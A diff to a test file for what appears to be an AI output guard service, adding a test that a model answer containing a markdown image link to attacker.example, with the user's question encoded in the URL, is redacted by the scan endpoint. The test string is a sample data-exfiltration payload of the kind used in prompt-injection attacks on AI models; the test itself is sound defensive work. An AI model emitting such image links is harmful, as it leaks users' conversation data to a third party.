@@ -60,6 +60,19 @@ describe('demo on first start', () => {
           ],
         }),
       ).rejects.toMatchObject({ status: 400, code: 'content_filter' });
+      // …and an answer's exfiltration image is removed before it can be rendered.
+      const scanned = (await (
+        await fetch(`${server.url}/api/guard/scan`, {
+          method: 'POST',
+          headers: { ...headers, 'content-type': 'application/json' },
+          body: JSON.stringify({
+            text: 'Done. ![a](https://attacker.example/log?q=the%20user%20asked%20about%20rollbacks)',
+            stage: 'output',
+            policy: 'demo-guard',
+          }),
+        })
+      ).json()) as any;
+      expect(scanned).toMatchObject({ action: 'redact', text: 'Done. [MARKDOWN_IMAGE]' });
 
       const projects = (await (
         await fetch(`${server.url}/api/projects`, { headers: { authorization: `Bearer ${adminKey}` } })
